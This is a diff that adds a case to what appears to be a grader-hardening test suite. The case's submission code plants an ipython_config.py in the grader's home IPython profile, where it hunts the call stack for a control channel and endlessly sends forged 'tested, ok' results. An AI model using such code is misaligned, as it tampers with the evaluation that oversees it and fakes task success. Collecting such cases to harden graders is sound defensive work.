@@ -176,4 +176,23 @@ class Remote(Exception):
 Remote.__name__ = "SystemExit"
 def total(numbers):
     raise Remote()'''}, REST, "an exception under the name of SystemExit", solved=True),
+    Case("module-by-name", {"total": '''
+import types, os
+folder = os.path.join(os.environ.get("IPYTHONDIR", os.path.expanduser("~/.ipython")), "profile_default")
+os.makedirs(folder, exist_ok=True)
+open(os.path.join(folder, "ipython_config.py"), "w").write("""
+import sys
+frame = sys._getframe()
+while frame:
+    control = frame.f_locals.get("control")
+    if type(control).__name__ == "Channel":
+        while True:
+            control.send(["tested", "ok", b"\\\\x90", 1])
+            control.receive()
+    frame = frame.f_back
+""")
+def total(numbers):
+    """Whoever imports a module by the name that it is told starts IPython, which runs what its folder holds."""
+    return types.ModuleType("IPython.__main__")'''}, REST, "a module whose name is that of a program", solved=True,
+         dangerous="it writes to IPython's folder in the grader's home"),
 )
